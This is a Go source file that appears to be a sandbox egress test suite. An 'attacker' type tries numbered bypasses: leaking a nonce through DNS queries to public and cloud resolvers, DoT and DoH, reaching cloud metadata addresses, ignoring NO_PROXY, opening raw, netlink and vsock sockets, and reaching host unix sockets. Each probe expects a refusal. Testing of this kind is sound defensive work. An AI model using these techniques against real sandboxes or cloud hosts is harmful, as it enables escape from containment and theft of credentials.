package prober

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// nameAttempts carry the nonce in questions (bypasses 25 to 28). The origin's side
// tells whether one was passed on; inside, an address must be synthetic.
func nameAttempts() []attempt {
	var all []attempt
	for _, network := range []string{"udp", "tcp"} {
		for _, server := range []string{"192.0.2.53", "8.8.8.8", "127.0.0.53", "169.254.169.253", "2001:db8::53"} {
			all = append(all, attempt{network + " to " + server, "synthetic", func(a *attacker) string { return a.question(network, server) }})
		}
	}
	return append(all,
		attempt{"DNS over TLS", "closed|520", func(a *attacker) string {
			c, err := a.dial(netip.MustParseAddrPort("192.0.2.53:853"))
			if err != nil {
				return refusedHandshake(err)
			}
			t := tls.Client(c, &tls.Config{ServerName: "dns.canary.test", InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}) //nolint:gosec // an attacker checks nothing
			if err := t.HandshakeContext(a.ctx); err != nil {
				return refusedHandshake(err)
			}
			return speak(t, nil, "\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00")
		}},
		attempt{"DNS over HTTPS", "520|421|closed", func(a *attacker) string {
			return a.overTLS("192.0.2.53:443", get("/dns-query?dns="+a.Nonce, "192.0.2.53", "Accept: application/dns-message"))
		}},
	)
}

// question asks for a name with the nonce in it.
func (a *attacker) question(network, server string) string {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, network, net.JoinHostPort(server, "53"))
	}}
	label := strings.NewReplacer(".", "-", ":", "-").Replace(a.Nonce + "-" + network + "-" + server)
	ctx, cancel := context.WithTimeout(a.ctx, patience)
	defer cancel()
	addrs, err := r.LookupHost(ctx, label+nameSuffix+".")
	if err != nil {
		return nameOf(err)
	}
	for _, text := range addrs {
		if at, err := netip.ParseAddr(text); err != nil || !a.Synthetic.Contains(at) {
			return text
		}
	}
	return "synthetic"
}

func (a *attacker) overTLS(at, text string) string {
	c, err := a.dial(netip.MustParseAddrPort(at))
	if err != nil {
		return refusedHandshake(err)
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}) //nolint:gosec // an attacker checks nothing
	if err := t.HandshakeContext(a.ctx); err != nil {
		return refusedHandshake(err)
	}
	return speak(t, nil, text)
}

// networkAttempts go to addresses and protocols beside the granted ones (bypasses 11,
// 27 to 32).
func networkAttempts() []attempt {
	var all []attempt
	for _, to := range []string{
		"169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80", "192.0.2.1:80", "[2001:db8::1]:80", "10.0.0.1:80", "224.0.0.1:80",
		"192.0.2.1:22", "192.0.2.1:25", "192.0.2.1:8443", "192.0.2.1:65535", "[::ffff:192.0.2.1]:80", "[fe80::1]:80",
	} {
		all = append(all, attempt{"connection to " + to, "520|400|closed|EINVAL|ENETUNREACH|ECONNREFUSED", func(a *attacker) string {
			c, err := a.dial(netip.MustParseAddrPort(to))
			return speak(c, err, get(a.secret("address"), to))
		}})
	}
	for _, to := range []string{"192.0.2.1:443", "192.0.2.1:123", "8.8.8.8:53000", "[2001:db8::1]:443", "224.0.0.251:5353", "[ff02::fb]:5353", "255.255.255.255:67"} {
		all = append(all, attempt{"datagram to " + to, "EPERM|EACCES|ENETUNREACH|EINVAL|EADDRNOTAVAIL", func(a *attacker) string {
			return said(send(a.ctx, netip.MustParseAddrPort(to), a.Nonce))
		}})
	}
	return append(all,
		attempt{"every bare address of the host", "400|520|closed|ECONNREFUSED", bareAddresses},
		attempt{"every datagram address of the host", "EPERM|ECONNREFUSED|success", datagramAddresses}, // the loopback is the sandbox's own; the origin tells
		attempt{"no proxy, as NO_PROXY asks for", "520|421", func(a *attacker) string {
			c, err := a.secured(hostOf(a.Unlisted), hostOf(a.Unlisted))
			return speak(c, err, get(a.secret("noproxy"), hostOf(a.Unlisted)))
		}},
	)
}

func bareAddresses(a *attacker) string {
	var out []string
	for _, to := range a.Bare {
		c, err := a.dial(to)
		out = append(out, speak(c, err, a.Nonce+"\n\n"))
	}
	return strings.Join(out, ",")
}

func datagramAddresses(a *attacker) string {
	var out []string
	for _, to := range a.UDP {
		got := said(send(a.ctx, to, a.Nonce))
		if got == "success" && !to.Addr().IsLoopback() {
			got = "left to " + to.String()
		}
		out = append(out, got)
	}
	return strings.Join(out, ",")
}

// socketAttempts open sockets that the rules do not see, or bind where the sandbox's
// own listeners are.
func socketAttempts() []attempt {
	const no = "EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT|ESOCKTNOSUPPORT|ENOSYS"
	var all []attempt
	for _, s := range []struct {
		name                   string
		family, kind, protocol int
	}{
		{"raw ICMP", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
		{"raw IPv6", unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_RAW},
		{"ping", unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
		{"packet", unix.AF_PACKET, unix.SOCK_RAW, 0},
		{"vsock", unix.AF_VSOCK, unix.SOCK_STREAM, 0},
		{"SCTP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP},
		{"netfilter", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER},
		{"audit", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT},
		{"kernel crypto", unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
		{"bluetooth", unix.AF_BLUETOOTH, unix.SOCK_RAW, 0},
		{"XDP", unix.AF_XDP, unix.SOCK_RAW, 0},
	} {
		all = append(all, attempt{s.name, no, func(*attacker) string {
			fd, err := unix.Socket(s.family, s.kind|unix.SOCK_CLOEXEC, s.protocol)
			if err == nil {
				_ = unix.Close(fd)
			}
			return said(err)
		}})
	}
	for _, port := range []int{53, 61, 62, 63} {
		all = append(all, attempt{fmt.Sprintf("bind to port %d", port), "EACCES|EADDRINUSE", func(a *attacker) string {
			l, err := (&net.ListenConfig{}).Listen(a.ctx, "tcp", ":"+strconv.Itoa(port))
			if err == nil {
				_ = l.Close()
			}
			return said(err)
		}})
	}
	return append(all,
		// Where the working directory is not the canary's own there is no socket in it, which is ENOENT.
		attempt{"abstract unix socket of the host", no + "|ECONNREFUSED", func(a *attacker) string { return connectUnix(a.ctx, a.Abstract) }},
		attempt{"unix socket of the host in the working directory", no + "|ECONNREFUSED|ENOENT", func(a *attacker) string { return connectUnix(a.ctx, a.Socket) }},
		attempt{"datagram to an abstract socket of the host", no + "|ECONNREFUSED|EPROTOTYPE", func(a *attacker) string { return sendUnix(a.ctx, beside(a.Abstract), a.Nonce) }},
		attempt{"datagram to a socket of the host in the working directory", no + "|ECONNREFUSED|ENOENT", func(a *attacker) string { return sendUnix(a.ctx, beside(a.Socket), a.Nonce) }},
	)
}

func connectUnix(ctx context.Context, at string) string {
	if at == "" {
		return "ENOENT"
	}
	c, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "unix", at)
	if err == nil {
		_ = c.Close()
	}
	return said(err)
}

// beside is the datagram socket that the host has beside another.
func beside(at string) string {
	if at == "" {
		return ""
	}
	return at + "-datagram"
}

func sendUnix(ctx context.Context, at, text string) string {
	if at == "" {
		return "ENOENT"
	}
	c, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "unixgram", at)
	if err != nil {
		return said(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, err = c.Write([]byte(text))
	return said(err)
}
